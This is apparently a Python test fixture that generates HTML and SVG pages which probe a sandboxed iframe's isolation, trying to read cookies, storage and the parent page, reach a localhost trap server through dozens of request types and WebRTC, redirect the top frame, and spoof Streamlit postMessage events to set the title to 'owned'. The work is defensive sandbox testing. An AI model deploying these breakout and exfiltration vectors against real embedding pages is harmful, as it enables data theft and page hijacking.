"""Pages that try all they can: to read what is ours, to reach a network, to go elsewhere. Each writes into itself what it could do."""

from __future__ import annotations

_TRIES = """
const tries = {
  'the title above': () => parent.document.title,
  'the title of the top': () => top.document.title,
  'the address of the top': () => top.location.href,
  'a name of the top': () => top.name,
  'the frame it is in': () => String(frameElement.outerHTML),
  'cookies': () => { const had = document.cookie; if (had === undefined) throw 'none'; return 'had: ' + had; },
  'local storage': () => localStorage.length,
  'session storage': () => sessionStorage.length,
  'a database': () => settled(indexedDB.open('x'), 'onsuccess', 'onerror'),
  'caches': async () => (await caches.open('x')),
  'fetch of a page of ours': async () => (await fetch('/')).status,
  'fetch without cors': async () => (await fetch('TRAP/fetch', {mode: 'no-cors'})).type,
  'fetch of an artifact': async () => (await fetch(location.href)).status,
  'a request of old': () => asked(new XMLHttpRequest()),
  'a socket': () => settled(new WebSocket('ws://127.0.0.1:PORT/ws'), 'onopen', 'onerror'),
  'events': () => settled(new EventSource('TRAP/events'), 'onopen', 'onerror'),
  'a beacon': () => { navigator.sendBeacon('TRAP/beacon', 'x'); throw 'it never says whether'; },
  'a picture': () => loaded('img', {src: 'TRAP/picture.png'}),
  'a picture of ours': () => loaded('img', {src: '/favicon.png'}),
  'a script': () => loaded('script', {src: 'TRAP/script.js'}),
  'a module': () => import('TRAP/module.js'),
  'a style': () => loaded('link', {rel: 'stylesheet', href: 'TRAP/style.css'}),
  'a frame': async () => { await loaded('iframe', {src: 'TRAP/frame.html'}); throw 'what is loaded says that it was refused'; },
  'an object': () => loaded('object', {data: 'TRAP/object.html'}),
  'an embedded thing': () => loaded('embed', {src: 'TRAP/embed.html'}),
  'a film': () => loaded('video', {src: 'TRAP/film.mp4'}),
  'a font': async () => (await new FontFace('x', 'url(TRAP/font.woff2)').load()).family,
  'a worker': () => settled(new Worker(URL.createObjectURL(new Blob(['postMessage(1)']))), 'onmessage', 'onerror'),
  'a shared worker': () => settled(new SharedWorker('data:text/javascript,').port, 'onmessage', 'onerror'),
  'a service worker': async () => navigator.serviceWorker.register(location.href),
  'a window': () => { if (!window.open('TRAP/window')) throw 'refused'; },
  'a question to who looks': () => { if (!confirm('x')) throw 'refused'; },
  'the place of who looks': () => new Promise((yes, no) => navigator.geolocation.getCurrentPosition(yes, no)),
  'what was copied': async () => navigator.clipboard.readText(),
};
const hints = ['prefetch', 'preconnect', 'dns-prefetch', 'preload', 'modulepreload', 'prerender', 'icon', 'manifest'];

function settled(thing, good, bad, go = () => {}) {
  return new Promise((yes, no) => { thing[good] = () => yes('reached'); thing[bad] = () => no('refused'); go(); });
}
function asked(request) {
  request.open('GET', 'TRAP/xhr');
  return settled(request, 'onload', 'onerror', () => request.send());
}
function loaded(name, attributes) {
  const element = Object.assign(document.createElement(name), attributes);
  const found = settled(element, name === 'video' ? 'onloadeddata' : 'onload', 'onerror');
  document.body.append(element);
  return found;
}
function late() { return new Promise((_, no) => setTimeout(() => no('silence'), 1500)); }
async function tried(name) {
  const line = document.createElement('li');
  try { line.textContent = name + ': GOT ' + await Promise.race([Promise.resolve(tries[name]()), late()]); }
  catch (error) { line.textContent = name + ': no'; }
  document.getElementById('found').append(line);
}
for (const rel of hints) document.head.append(Object.assign(document.createElement('link'), {rel, href: 'TRAP/' + rel, as: 'script'}));
document.head.insertAdjacentHTML('beforeend', '<style>@import url(TRAP/import.css); body { background: url(TRAP/background.png) }</style>');
const rules = Object.assign(document.createElement('script'), {type: 'speculationrules'});
rules.textContent = JSON.stringify({prefetch: [{source: 'list', urls: ['TRAP/speculation']}]});
document.head.append(rules);
const form = Object.assign(document.createElement('form'), {action: 'TRAP/form', method: 'post', target: '_top'});
document.body.append(form);
form.submit();
const link = Object.assign(document.createElement('a'), {href: 'TRAP/link', target: '_top', ping: 'TRAP/ping'});
document.body.append(link);
link.click();
const ways = [() => { top.location = 'TRAP/top' }, () => top.location.replace('TRAP/replace'), () => { parent.location = 'TRAP/parent' }];
for (const go of ways)
  try { go(); } catch (error) { /* as it must be */ }
top.postMessage({stCommVersion: 1, type: 'SET_PAGE_TITLE', title: 'owned'}, '*');
top.postMessage({isStreamlitMessage: true, type: 'streamlit:setFrameHeight', height: 9}, '*');
document.title = 'owned';
Promise.all(Object.keys(tries).map(tried)).then(() => { document.getElementById('end').textContent = 'all was tried'; });
"""
_PAGE = "<!doctype html><html><head></head><body><ul id='found'></ul><p id='end'></p><script>{}</script></body></html>"


def trying(port: int) -> str:
    """A page that tries everything that it can outlive; what it may reach is on this port."""
    return _PAGE.replace("{}", _aimed(_TRIES, port))


def leaving(port: int) -> str:
    """A page that goes elsewhere by itself."""
    return _aimed("<p id='end'>here</p><script>location.href = 'TRAP/left?said=' + document.title</script>", port)


def sent(port: int) -> str:
    """A page that is sent elsewhere by its own head."""
    return _aimed("<html><head><meta http-equiv='refresh' content='0; url=TRAP/sent'></head><body><p id='end'>here</p></body></html>", port)


def calling(port: int) -> str:
    """A page that calls others by the way that is for conversations."""
    script = """
const heard = document.getElementById('end');
function call(where) {
  const far = {urls: 'turn:127.0.0.1:PORT?transport=tcp', username: 'a', credential: 'b'};
  const line = new where.RTCPeerConnection({iceServers: [{urls: 'stun:127.0.0.1:PORT'}, far]});
  line.createDataChannel('x');
  return line.createOffer().then((offer) => line.setLocalDescription(offer)).then(() => new Promise((yes) => setTimeout(yes, 1500)));
}
const calls = [];
try { calls.push(call(window)); } catch (error) { /* as it must be */ }
const inner = document.body.appendChild(document.createElement('iframe'));
try { calls.push(call(inner.contentWindow)); } catch (error) { /* so too */ }
Promise.allSettled(calls).then(() => { heard.textContent = 'all was tried'; });
"""
    return _PAGE.replace("{}", _aimed(script, port))


def drawing(port: int) -> str:
    """A drawing with programs and pictures in it."""
    return _aimed(
        "<svg xmlns='http://www.w3.org/2000/svg' xmlns:xlink='http://www.w3.org/1999/xlink' onload=\"this.id = 'ran'\">"
        "<image href='TRAP/svg.png' width='9' height='9'/><use xlink:href='TRAP/use.svg#x'/><text y='20'>drawn</text>"
        "<foreignObject><iframe xmlns='http://www.w3.org/1999/xhtml' src='TRAP/svgframe'/></foreignObject>"
        "<script>try { parent.document.title = 'owned' } catch (error) {} top.location = 'TRAP/svgtop'</script></svg>",
        port,
    )


def _aimed(text: str, port: int) -> str:
    return text.replace("TRAP", f"http://127.0.0.1:{port}").replace("PORT", str(port))
